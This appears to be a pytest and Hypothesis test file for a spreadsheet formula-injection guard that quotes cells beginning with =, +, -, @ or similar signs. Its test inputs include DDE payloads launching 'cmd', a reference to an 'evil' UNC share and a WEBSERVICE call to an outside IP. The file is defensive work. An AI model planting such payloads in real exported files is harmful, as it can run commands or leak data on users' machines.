import pytest
from hypothesis import given
from hypothesis import strategies as st

from boardapp.exchange.guard import guard, seal, unguard, unseal, was_guarded

SIGNS = ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"]
PARTS = [",", ";", "\t", "|", "\n", "\r"]
CELLS = st.text(max_size=20) | st.text("' \u00a0x" + "".join(SIGNS), max_size=6)


@pytest.mark.parametrize("sign", SIGNS)
@pytest.mark.parametrize("before", ["", " ", "   ", "'", "''", "' ", "\u00a0"])
def test_a_sign_behind_quotes_and_spaces_gets_one_more_quote(sign, before):
    assert guard(f"{before}{sign}1+1") == f"'{before}{sign}1+1"


@pytest.mark.parametrize("cell", ["", "'", "'80s", "l'action", "a=b", "' quoted", "1-2", "«-»", "''", "   "])
def test_an_ordinary_cell_stays_as_it_is(cell):
    assert guard(cell) == unguard(cell) == cell


@given(CELLS)
def test_the_guard_is_lossless(cell):
    assert unguard(guard(cell)) == cell


@given(CELLS)
def test_no_guarded_cell_begins_with_a_sign(cell):
    assert guard(cell).lstrip(" \u00a0")[:1] not in SIGNS


@pytest.mark.parametrize(("rows", "expected"), [([["'=1"], ["x"]], True), ([["'=1"], ["- x"]], False), ([[""]], True)])
def test_one_bare_sign_shows_that_nobody_guarded_the_file(rows, expected):
    assert was_guarded(rows) is expected


@pytest.mark.parametrize("part", PARTS)
@pytest.mark.parametrize(
    "begins", ["=1+2", "+cmd|' /C calc'!A0", "-SUM(1)", "@SUM(1)", "- 2+cmd|' /C'!A0", '"=1', " =1", "'=1"]
)
def test_a_piece_of_a_text_that_would_begin_a_cell_is_guarded(part, begins):
    assert seal(f"x{part}{begins}") == f"x{part}'{begins}"


@pytest.mark.parametrize(
    "cell",
    [
        "list\n- gare\n- mairie, le 2 ;\n- le port",
        "Lyon, -20 %",
        "tél;+33 6 12 34 56 78",
        "nous :,\n- a\n- b",
        "solde;-12,5",
        "a, b;c|d",
    ],
)
def test_lists_and_numbers_within_a_text_stay_as_they_are(cell):
    assert seal(cell) == unseal(cell) == cell


@pytest.mark.parametrize(
    "text",
    [
        "x;-1,5*cmd|'/c calc'!A0;y",
        "x,-1/\"&cmd|'/c calc'!A0,y",
        "x,-1/",  # and the next cell goes on from there
        "x,-1:",
        "x\n- ",
        "x\n- 1&",
        "x\n- '\\\\evil\\s\\[a.xlsx]S'!A1,y",
        'x\n- WEBSERVICE ("http://198.51.100.7/"),y',
        "x\n- a（b",
    ],
)
def test_what_only_looks_like_a_number_or_an_item_is_guarded(text):
    assert len(seal(text)) > len(text)


@given(CELLS | st.text("ab1 |(\"'\u00a0%" + "".join(SIGNS + PARTS), max_size=14))
def test_the_seal_is_lossless(cell):
    assert unseal(seal(cell)) == cell
